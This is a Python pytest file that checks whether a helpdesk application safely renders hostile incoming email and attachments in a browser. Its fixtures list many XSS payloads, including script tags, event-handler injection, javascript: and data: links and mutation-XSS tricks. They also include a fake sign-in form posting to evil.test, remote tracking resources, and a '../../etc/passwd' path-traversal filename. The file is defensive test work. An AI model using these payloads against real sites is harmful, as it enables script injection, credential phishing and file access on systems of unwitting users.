"""C: what strangers send is opened in a real browser, which must not notice."""
import re
from urllib.parse import urljoin

import pytest

from browser import Sitting
from messages import mail
from svar import PASSWORD

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360606060000000050001a5f645400000000049454e44ae426082")
PAGE = b"<!doctype html><script>alert(3)</script><img src=x onerror=alert(4)>"
HOSTILE = """
<p>Words that stay</p>
<script>alert(5)</script><img src=x onerror="alert(6)"><svg onload="alert(7)"><body onload=alert(8)>
<a href="javascript:alert(9)" id="bad">bad link</a> <a href=" &#106;avascript:alert(10)">bad too</a>
<a href="data:text/html,<script>alert(11)</script>">data</a> <a href="https://example.org/ok">good link</a>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o"></object><embed src="//evil.test/e">
<img src="https://evil.test/pixel.png"><img src="//evil.test/pixel.png"><img srcset="https://evil.test/s.png 2x">
<div style="background:url(https://evil.test/bg.png);position:fixed;inset:0;z-index:99999">over all</div>
<style>@import "https://evil.test/x.css"; body { display: none }</style><link rel=stylesheet href="//evil.test/l.css">
<form action="https://evil.test/steal"><input name=password><button>Sign in again</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">
<video src="https://evil.test/v" poster="https://evil.test/p"></video><audio src="//evil.test/a" autoplay></audio>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(12)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(13)>">
"""
TEXT = "</textarea><script>alert(14)</script>\"'><img src=x onerror=alert(15)>{{7*7}}${7*7}"
NAME = "\"'><img src=x onerror=alert(16)>"
FILE = "<img src=x onerror=alert(17)>.html"


@pytest.fixture(scope="module")
def hostile(shared_desk):
    """A ticket of which every text a stranger may choose is an attack."""
    sender = "hostile@stranger.test"
    message = mail(
        f'"{NAME.replace(chr(34), "")}" <{sender}>', subject=f"C1 {TEXT}", body=TEXT + "\n-- \n" + TEXT, html=HOSTILE,
        attachments=[
            ("picture.png", "image/png", SVG), (FILE, "text/html", PAGE), ("vector.svg", "image/svg+xml", SVG),
            ("../../etc/passwd", "text/plain", b"root"), ("real.png", "image/png", PNG)])
    shared_desk.deliver(message, sender)
    shared_desk.deliver(mail(f"Plain <{sender}>", subject="C1 only text", body=TEXT), sender)
    return next(ticket for ticket in shared_desk.tickets() if ticket["subject"].startswith("C1 </text"))


@pytest.fixture
def sitting(browser, shared_desk):
    opened = Sitting(browser, shared_desk.base_url)
    opened.sign_in("anna@desk.test", PASSWORD)
    yield opened
    opened.close()


def test_C1_a_browser_over_all_pages_with_a_hostile_mail_notices_nothing(shared_desk, hostile, sitting):
    page = sitting.go(f"/tickets/{hostile['number']}")
    assert page.get_by_text("Words that stay").count() + page.get_by_text("alert(14)").count() > 0
    page.wait_for_timeout(500)  # what would act, acts by now
    assert page.url == f"{shared_desk.base_url}/tickets/{hostile['number']}"
    assert page.locator("body").is_visible()
    for frame in page.frames[1:]:
        assert frame.url.startswith((shared_desk.base_url, "about:"))
    assert page.locator('form[action*="evil.test"], a[href^="javascript"], a[href^="data:"], [onerror], [onload]').count() == 0
    sitting.picture("hostile-mail")
    for path in pages_of(sitting, f"/tickets/{hostile['number']}"):
        sitting.go(path)
        sitting.page.wait_for_timeout(100)
    for path in ("/tickets", "/admin/outgoing-mail"):
        sitting.go(path)
        for inner in pages_of(sitting, path)[:15]:
            sitting.go(inner)
    sitting.assert_quiet()


def pages_of(sitting, path):
    """The links of a page to other pages of the desk, downloads left out."""
    sitting.go(path)
    links = sitting.page.eval_on_selector_all("a[href]", "links => links.map(link => link.href)")
    ours = [link for link in dict.fromkeys(links) if link.startswith(sitting.base_url)]
    return [link for link in ours if not re.search(r"/(attachments?|contents?|original|sign-out)\b", link) and "#" not in link]


def attachments(visitor, number):
    """The addresses of a ticket's attachments, by the file name that the page shows."""
    page = f"/tickets/{number}"
    found = dict.fromkeys(re.findall(r'href="([^"]*/attachments?/[^"]*)"', visitor.get(page).text))
    assert found, "the ticket's page links no attachment"
    return [urljoin(visitor.base_url + page, link) for link in found]


def test_C2_attachments_are_downloads_that_no_browser_runs(shared_desk, hostile):
    visitor = shared_desk.visitor()
    visitor.sign_in()
    answers = [visitor.get(link) for link in attachments(visitor, hostile["number"])]
    assert len(answers) >= 5
    for answer in answers:
        assert answer.status == 200
        headers = answer.headers
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in headers["Content-Security-Policy"]
        is_raster = answer.body.startswith(b"\x89PNG")
        assert headers["Content-Disposition"].startswith("attachment") or is_raster, headers["Content-Disposition"]
        assert "\r" not in headers["Content-Disposition"] and "../" not in headers["Content-Disposition"]
        if not is_raster:
            assert headers.get_content_type() not in ("text/html", "image/svg+xml", "text/xml", "application/xml", "text/javascript")
    assert {SVG, PAGE, PNG, b"root"} <= {answer.body for answer in answers}


def test_C2_an_attachment_is_not_given_to_someone_who_is_not_signed_in(shared_desk, hostile):
    visitor = shared_desk.visitor()
    visitor.sign_in()
    for link in attachments(visitor, hostile["number"]):
        assert shared_desk.visitor().get(link).status in (302, 303, 401, 403, 404)


def test_C2_an_attachment_opened_in_the_browser_does_nothing(shared_desk, hostile, sitting):
    visitor = shared_desk.visitor()
    visitor.sign_in()
    for link in attachments(visitor, hostile["number"]):
        page = sitting.context.new_page()
        try:
            page.goto(link)
        except Exception as error:  # Playwright tells a download by an error
            assert "Download is starting" in str(error) or "ERR_ABORTED" in str(error), error
        page.wait_for_timeout(200)
        page.close()
    sitting.assert_quiet()


def test_C2_remote_images_are_held_back(shared_desk, hostile, sitting):
    page = sitting.go(f"/tickets/{hostile['number']}")
    of_frame = "images => images.map(image => image.src + image.srcset)"
    sources = [source for frame in page.frames for source in frame.eval_on_selector_all("img", of_frame)]
    assert not [source for source in sources if "evil.test" in source]
    sitting.assert_quiet()
